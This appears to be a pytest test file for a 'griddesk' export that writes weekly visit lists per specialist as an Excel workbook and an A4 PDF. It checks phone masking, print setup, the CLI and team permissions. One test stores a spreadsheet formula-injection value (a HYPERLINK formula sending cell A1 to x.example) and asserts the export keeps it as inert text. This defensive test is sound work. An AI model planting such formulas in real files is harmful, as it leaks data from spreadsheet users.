"""The weekly visit lists as files (issue 19): the workbook (a summary and one sheet per
specialist, phones masked by role, outside text kept inert, A4 print setup), the PDF (one A4
page per specialist and working day, the CJK font embedded) and ``griddesk export visits`` end
to end, on both backends."""

from __future__ import annotations

import re

import pytest
from export_demo import AS_OF, demo  # noqa: F401 - the module's demo fixture
from openpyxl import load_workbook
from sqlalchemy import select

from app.cli import main
from app.models import Customer, Specialist, Team
from app.models.enums import SpecialistStatus
from app.services.exports import ExportError, resolve_scope
from app.services.exports.visits import TABLE_ROW, scope_specialists, write_visit_lists
from app.services.visits.lists import build_visit_list, week_of
from app.services.words import Texts

WEEK = "2026-W47"  # 11-16 to 11-22; the demo's as-of date is Friday 11-20
MONDAY = week_of(WEEK)
PHONE = re.compile(r"(?<!\d)1\d{10}(?!\d)")
MASKED = re.compile(r"^1\d\d\*{4}\d{4}$")


@pytest.fixture(autouse=True)
def _isolated_settings(tmp_path, monkeypatch):
    monkeypatch.setenv("GRIDDESK_SETTINGS_DIR", str(tmp_path / "settings"))
    monkeypatch.delenv("GRIDDESK_DB", raising=False)
    monkeypatch.delenv("GRIDDESK_USER", raising=False)
    monkeypatch.setenv("GRIDDESK_PASSWORD", "demo1234")  # the demo users' password


def _team_of(demo, login):  # noqa: F811
    user = demo.user(login)
    with demo.Session() as s:
        scope = resolve_scope(s, None, branch_id=demo.branch_id, user=user)
        code = s.scalar(select(Team.code).where(Team.id.in_(list(scope.team_ids or ()))))
        return code, scope_specialists(s, scope)


def _write(demo, path, ids, login=None):  # noqa: F811
    with demo.Session() as s:
        return write_visit_lists(
            s,
            path,
            specialist_ids=ids,
            week_monday=MONDAY,
            as_of=AS_OF,
            user=demo.user(login) if login else None,
        )


def _phones(ws) -> list[str]:
    col = [c.value for c in ws[TABLE_ROW]].index(Texts("zh_CN")["phone"]) + 1
    return [ws.cell(row=r, column=col).value for r in range(TABLE_ROW + 1, ws.max_row + 1)]


def test_workbook_has_a_sheet_per_specialist_masked_for_an_analyst(demo, tmp_path):  # noqa: F811
    _code, ids = _team_of(demo, "supervisor")
    assert len(ids) >= 2
    for login, masked in (("analyst", True), ("supervisor", False)):
        out = tmp_path / f"{login}.xlsx"
        result = _write(demo, out, ids, login)
        wb = load_workbook(out)
        assert wb.sheetnames == list(result.sheets)
        assert len(wb.sheetnames) == 1 + len(ids)
        phones = [p for ws in wb.worksheets[1:] for p in _phones(ws) if p]
        assert phones
        if masked:
            assert all(MASKED.match(p) for p in phones)
        else:
            assert all(PHONE.fullmatch(p) for p in phones)
    ws = wb.worksheets[1]
    assert int(ws.page_setup.paperSize) == 9 and ws.sheet_properties.pageSetUpPr.fitToPage
    # fitToWidth left out: OOXML's default, one page
    assert (ws.page_setup.fitToWidth or 1) == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == f"$1:${TABLE_ROW}"
    assert "路线" in ws.cell(row=TABLE_ROW - 1, column=1).value


def test_a_name_starting_with_equals_stays_text(demo, tmp_path):  # noqa: F811
    _code, ids = _team_of(demo, "supervisor")
    with demo.Session() as s:
        listed = build_visit_list(s, ids[0], MONDAY, AS_OF).stops[0]
    evil = '=HYPERLINK("http://x.example/?"&A1,"点我")'
    with demo.Session() as s, s.begin():
        c = s.get(Customer, listed.customer_id)
        before, c.name = c.name, evil
    try:
        out = tmp_path / "inert.xlsx"
        _write(demo, out, ids[:1])
        ws = load_workbook(out).worksheets[1]
        cells = [c for row in ws.iter_rows() for c in row if c.value == evil]
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    finally:
        with demo.Session() as s, s.begin():
            s.get(Customer, listed.customer_id).name = before


def test_pdf_has_one_a4_page_per_specialist_and_working_day(demo, tmp_path):  # noqa: F811
    _code, ids = _team_of(demo, "supervisor")
    out = tmp_path / "week.pdf"
    result = _write(demo, out, ids[:2])
    data = out.read_bytes()
    assert data.startswith(b"%PDF-")
    pages = re.findall(rb"/Type\s*/Page\b(?!s)", data)
    assert len(pages) == len(result.sheets) == 2 * 5
    boxes = set(re.findall(rb"/MediaBox\s*\[\s*0 0 ([\d.]+) ([\d.]+)\s*\]", data))
    assert {(round(float(w)), round(float(h))) for w, h in boxes} == {(595, 842)}  # A4 points
    assert b"NotoSansCJK" in data and b"/FontFile2" in data  # the Chinese font travels along


def test_a_bad_file_name_is_refused(demo, tmp_path):  # noqa: F811
    with pytest.raises(ExportError, match=r"\.pdf or \.xlsx"):
        _write(demo, tmp_path / "week.docx", [1])


@pytest.fixture(scope="module")
def cli_url(demo, backend, pg_server_url, tmp_path_factory):  # noqa: F811
    """A migrated database holding the demo (as the command line wants it): the demo's own
    SQLite file, or a PostgreSQL database of this module's, migrated and filled anew (the run's
    database is made from the models, without Alembic's record)."""
    if backend == "sqlite":
        yield demo.url
        return
    import uuid

    from sqlalchemy import create_engine, text
    from sqlalchemy.engine import make_url

    from app.db import make_engine, migrate
    from app.services.database.unit_of_work import sessionmaker as session_factory
    from app.services.demo import build_demo

    name = f"griddesk_visits_{uuid.uuid4().hex[:8]}"
    admin = create_engine(
        make_url(pg_server_url).set(database="postgres"), isolation_level="AUTOCOMMIT"
    )
    with admin.connect() as conn:
        conn.execute(text(f'CREATE DATABASE "{name}"'))
    url = make_url(pg_server_url).set(database=name).render_as_string(hide_password=False)
    engine = make_engine(url)
    try:
        migrate(engine)
        with session_factory(engine)() as s, s.begin():
            build_demo(s, size="small", seed=7, as_of=AS_OF)
        engine.dispose()
        yield url
    finally:
        engine.dispose()
        with admin.connect() as conn:
            conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()


def _run(url, *args):
    who = [] if "--user" in args else ["--user", "senior"]
    return main(["--db", url, *who, "export", "visits", *args, "--as-of", AS_OF.isoformat()])


@pytest.mark.slow
def test_command_line_writes_a_teams_lists(demo, cli_url, tmp_path, capsys):  # noqa: F811
    code, ids = _team_of(demo, "supervisor")
    out = tmp_path / "team.xlsx"
    assert _run(cli_url, "--user", "supervisor", "--week", WEEK, "--out", str(out)) == 0
    assert f"written: {out}" in capsys.readouterr().out
    assert len(load_workbook(out).sheetnames) == 1 + len(ids)
    pdf = tmp_path / "team.pdf"
    assert _run(cli_url, "--team", code, "--week", "2026-11-18", "--out", str(pdf)) == 0
    assert len(re.findall(rb"/Type\s*/Page\b(?!s)", pdf.read_bytes())) == 5 * len(ids)
    with demo.Session() as s:
        emp = s.scalar(select(Specialist.employee_no).where(Specialist.id == ids[0]))
    one = tmp_path / "one.xlsx"
    assert _run(cli_url, "--specialist", emp, "--week", WEEK, "--out", str(one)) == 0
    assert len(load_workbook(one).sheetnames) == 2


def test_command_line_keeps_a_supervisor_to_their_team(demo, cli_url, tmp_path, capsys):  # noqa: F811
    own, _ = _team_of(demo, "supervisor")
    with demo.Session() as s:
        other = s.scalar(
            select(Team.code).where(Team.branch_id == demo.branch_id, Team.code != own)
        )
        active = select(Specialist.id).where(Specialist.status == SpecialistStatus.ACTIVE)
        assert s.scalars(active).first() is not None
    out = tmp_path / "x.xlsx"
    args = ("--user", "supervisor", "--team", other, "--week", WEEK, "--out", str(out))
    assert _run(cli_url, *args) == 1
    assert "not one of your teams" in capsys.readouterr().err
    assert _run(cli_url, "--week", "soon", "--out", str(out)) == 1
    assert "is not a week" in capsys.readouterr().err
    assert not out.exists()
